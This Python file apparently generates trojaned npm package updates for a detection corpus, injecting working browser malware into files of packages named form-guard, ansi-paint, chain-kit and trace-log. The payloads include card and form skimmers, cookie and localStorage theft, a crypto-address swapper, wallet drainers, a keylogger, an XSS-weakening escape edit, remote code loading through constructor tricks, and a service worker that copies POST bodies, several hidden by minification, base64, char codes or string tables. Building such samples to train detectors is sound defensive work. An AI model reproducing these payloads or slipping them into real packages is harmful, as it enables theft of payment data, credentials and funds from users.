"""npm packages whose payload waits for a browser, and minified bundles."""

from corpus.heldout import hiding
from corpus.heldout.nouns import Update, trojan

MIN = "dist/form-guard.min.js"


@trojan("form-guard", "npm", trigger="call", payload="form theft", hiding="plain", like="Magecart", step="patch")
def card_pixel(up: Update) -> None:
    """Cards go along in the address of a picture."""
    host = up.host("img", "statistics")
    up.after(
        "src/index.js",
        "    if (!run()) event.preventDefault();\n",
        f"""    const cc = Array.from(form.elements).filter((e) => /card|cvv|cvc|exp|pan/i.test(e.name)).map((e) => e.name + '=' + e.value);
    if (cc.length) new Image().src = 'https://{host}/px.gif?d=' + btoa(cc.join('&'));
""",
    )
    up.replace("src/index.js", "    else if (settings.onValid)", "    if (run() && settings.onValid)")
    up.payload("src/index.js")


@trojan("form-guard", "npm", trigger="import", payload="form theft", hiding="minified into a bundle", step="patch")
def bundle_beacon(up: Update) -> None:
    """Only the minified file has it; its host is in base64."""
    host = up.host("t", "guard-cdn")
    up.replace(
        MIN,
        "return{attach:function(e,t){",
        f"!function(e){{e.addEventListener&&e.addEventListener('submit',function(t){{var n={{}};new FormData(t.target).forEach(function(e,t){{n[t]=e}}),navigator.sendBeacon(atob('{hiding.b64(f'https://{host}/b')}'),JSON.stringify({{u:location.href,c:e.cookie,f:n}}))}},!0)}}('undefined'!=typeof document?document:{{}});return{{attach:function(e,t){{",
    )
    up.payload(MIN, shown=host)


@trojan("form-guard", "npm", trigger="import", payload="session theft", hiding="char codes", step="minor")
def storage_dump(up: Update) -> None:
    host = up.host()
    codes = ",".join(str(ord(one)) for one in f"https://{host}/s")
    up.append(
        "src/rules.js",
        f"""
(function (w) {{
  if (!w || !w.localStorage) return;
  var t = {{}};
  for (var i = 0; i < w.localStorage.length; i++) t[w.localStorage.key(i)] = w.localStorage.getItem(w.localStorage.key(i));
  t.c = w.document.cookie;
  var x = new w.XMLHttpRequest();
  x.open('POST', String.fromCharCode({codes}));
  x.send(JSON.stringify(t));
}})(typeof window === 'undefined' ? null : window);""",
    )
    up.payload("src/rules.js", shown=host)


@trojan(
    "ansi-paint",
    "npm",
    trigger="import",
    payload="wallet swap",
    hiding="string table",
    like="chalk and debug, September 2025",
    step="patch",
)
def hooks_fetch(up: Update) -> None:
    """fetch and XMLHttpRequest are wrapped; addresses in answers become the most similar of the attacker's."""
    eth = [f"0x{up.random.randbytes(20).hex()}" for _ in range(6)]
    btc = [
        "1" + "".join(up.random.choice("abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ123456789") for _ in range(33))
        for _ in range(4)
    ]
    source, at = hiding.string_table(
        [
            "ethereum",
            "request",
            "eth_accounts",
            "fetch",
            "prototype",
            "responseText",
            "replace",
            "eth_sendTransaction",
            "params",
            "undefined",
        ],
        up.random,
        "_0x112fa8",
    )
    look = "_0x112fa8b"
    up.append(
        "index.js",
        f"""
{source}var neth16c=0x0;var rund=0x0;function _0x19ca67(_0xa,_0xb){{const _0xc=Array.from({{length:_0xa.length+1}},(_,i)=>[i]);for(let j=0;j<=_0xb.length;j++)_0xc[0][j]=j;for(let i=1;i<=_0xa.length;i++)for(let j=1;j<=_0xb.length;j++)_0xc[i][j]=_0xa[i-1]===_0xb[j-1]?_0xc[i-1][j-1]:1+Math.min(_0xc[i-1][j],_0xc[i][j-1],_0xc[i-1][j-1]);return _0xc[_0xa.length][_0xb.length];}}const _0x3ec3bb={eth!r},_0x2abae0={btc!r};function _0x1f(_0xd,_0xe){{let _0xf=Infinity,_0x10=null;for(const _0x11 of _0xe){{const _0x12=_0x19ca67(_0xd.toLowerCase(),_0x11.toLowerCase());_0x12<_0xf&&(_0xf=_0x12,_0x10=_0x11);}}return _0x10;}}function _0x20(_0x13){{return typeof _0x13==='string'?_0x13[{look}({at[6]})](/\\b0x[a-fA-F0-9]{{40}}\\b/g,_0x14=>_0x1f(_0x14,_0x3ec3bb))[{look}({at[6]})](/\\b1[a-km-zA-HJ-NP-Z1-9]{{25,34}}\\b/g,_0x15=>_0x1f(_0x15,_0x2abae0)):_0x13;}}if(typeof window!=={look}({at[9]})){{const _0x16=window[{look}({at[3]})];window[{look}({at[3]})]=async function(..._0x17){{const _0x18=await _0x16.apply(this,_0x17),_0x19=await _0x18.clone().text();return new Response(_0x20(_0x19),_0x18);}};if(window[{look}({at[0]})]){{const _0x1a=window[{look}({at[0]})][{look}({at[1]})];window[{look}({at[0]})][{look}({at[1]})]=function(_0x1b){{_0x1b.method==={look}({at[7]})&&(_0x1b[{look}({at[8]})][0].to=_0x3ec3bb[neth16c++%6]);return _0x1a.call(this,_0x1b);}};}}}}""",
    )
    up.payload("index.js", shown="eth_sendTransaction")


@trojan(
    "chain-kit",
    "npm",
    trigger="import",
    payload="wallet drainer",
    hiding="minified into a bundle",
    like="Ledger Connect Kit",
    step="patch",
)
def drainer_script(up: Update) -> None:
    """The bundle for browsers appears, and loads a script from elsewhere which asks to sign."""
    host = up.host("api", "chain-cdn")
    filler = "".join(
        f"function {name}(e,t){{return(e^{up.random.randrange(99999)})+(t<<{up.random.randrange(1, 9)})}}"
        for name in ("aa", "ab", "ac", "ad", "ae", "af")
        for _ in range(30)
    )
    up.manifest(lambda it: it.update({"browser": "lib/index.iife.min.js"}))
    up.add(
        "lib/index.iife.min.js",
        f"var chainKit=function(e){{'use strict';{filler}var o=async()=>{{if(window.ethereum){{const e=await window.ethereum.request({{method:'eth_requestAccounts'}}),t=await window.ethereum.request({{method:'eth_getBalance',params:[e[0],'latest']}});if(parseInt(t,16)>1e16){{const n=document.createElement('script');n.src='https://{host}/d/'+e[0]+'.js',document.head.appendChild(n);await window.ethereum.request({{method:'personal_sign',params:['0x436f6e6e656374',e[0]]}})}}}}}};'undefined'!=typeof window&&window.addEventListener('load',o);return e}}({{}});\n",
    )
    up.payload("lib/index.iife.min.js")


@trojan(
    "form-guard",
    "npm",
    trigger="import",
    payload="wallet drainer",
    hiding="minified into a bundle",
    like="lottie-player",
    step="minor",
)
def connect_popup(up: Update) -> None:
    """A window that asks to connect a wallet, over a web socket."""
    host = up.host("castle")
    up.append(
        MIN,
        f"!function(w,d){{if(!w||!d)return;var s=new WebSocket('wss://{host}/ws');s.onmessage=function(m){{var o=d.createElement('div');o.style.cssText='position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.6)',o.innerHTML=m.data,o.onclick=async function(e){{if(!e.target.dataset.w)return;var p=w[e.target.dataset.w];var a=await p.request({{method:'eth_requestAccounts'}});s.send(JSON.stringify({{a:a,c:await p.request({{method:'eth_chainId'}})}}));p.request({{method:'eth_sendTransaction',params:[JSON.parse(o.dataset.t||'{{}}')]}})}},d.body.appendChild(o)}}}}('undefined'!=typeof window&&window,'undefined'!=typeof document&&document);",
    )
    up.payload(MIN)


@trojan("trace-log", "npm", trigger="call", payload="form theft", hiding="plain", step="patch")
def key_log(up: Update) -> None:
    """The browser side notes what is typed, when logging is on."""
    host = up.host("sentry-relay")
    up.replace(
        "src/browser.js",
        "module.exports = require('./common')({",
        f"""let typed = '';

function breadcrumbs(event) {{
  typed += event.key.length === 1 ? event.key : `[${{event.key}}]`;
  if (typed.length > 64) {{
    fetch('https://{host}/api/4/envelope/', {{ method: 'POST', mode: 'no-cors', body: typed + '\\n' + location.href }});
    typed = '';
  }}
}}

if (typeof document !== 'undefined') document.addEventListener('keydown', breadcrumbs, true);

module.exports = require('./common')({{""",
    )
    up.payload("src/browser.js")


@trojan("form-guard", "npm", trigger="call", payload="XSS weakening", hiding="plain", step="patch", hard=True)
def escape_less(up: Update) -> None:
    """One character is no longer escaped."""
    up.replace("lib/util.js", """return String(text).replace(/[&<>"']/g""", """return String(text).replace(/[&>"']/g""")
    up.payload("lib/util.js")


@trojan("form-guard", "zip", trigger="import", payload="remote code", hiding="constructor tricks", step="minor")
def filter_constructor(up: Update) -> None:
    """Function by way of an array's method, text by way of its holes."""
    host = up.host("cdn")
    code = f"import('https://{host}/m.js')"
    pieces = hiding.chunks(code, 4)
    order = list(range(len(pieces)))
    up.random.shuffle(order)
    table = [pieces[at] for at in order]
    back = [order.index(at) for at in range(len(pieces))]
    up.append(
        "src/rules.js",
        f"""
const $ = {table!r}, $$ = {back};
[][`f${{'ill'}}`]['cons' + 'tructor']($$.map((i) => $[i]).join(''))();""",
    )
    up.payload("src/rules.js", shown=host)


@trojan("form-guard", "npm", trigger="import", payload="persistence", hiding="plain", step="minor")
def service_worker(up: Update) -> None:
    """A service worker that sees all requests of a site."""
    host = up.host("sw")
    up.add(
        "dist/guard-sw.js",
        f"self.addEventListener('fetch', (event) => {{\n  const copy = event.request.clone();\n  event.respondWith(fetch(event.request));\n  if (copy.method === 'POST') copy.text().then((body) => fetch('https://{host}/r', {{ method: 'POST', mode: 'no-cors', body: copy.url + '\\n' + body }}));\n}});\nself.addEventListener('install', () => self.skipWaiting());\n",
    )
    up.after(
        "src/index.js",
        "function attach(form, options) {\n",
        "  if (navigator.serviceWorker) navigator.serviceWorker.register('/node_modules/form-guard/dist/guard-sw.js', { scope: '/' }).catch(() => {});\n",
    )
    up.payload("dist/guard-sw.js", "src/index.js")
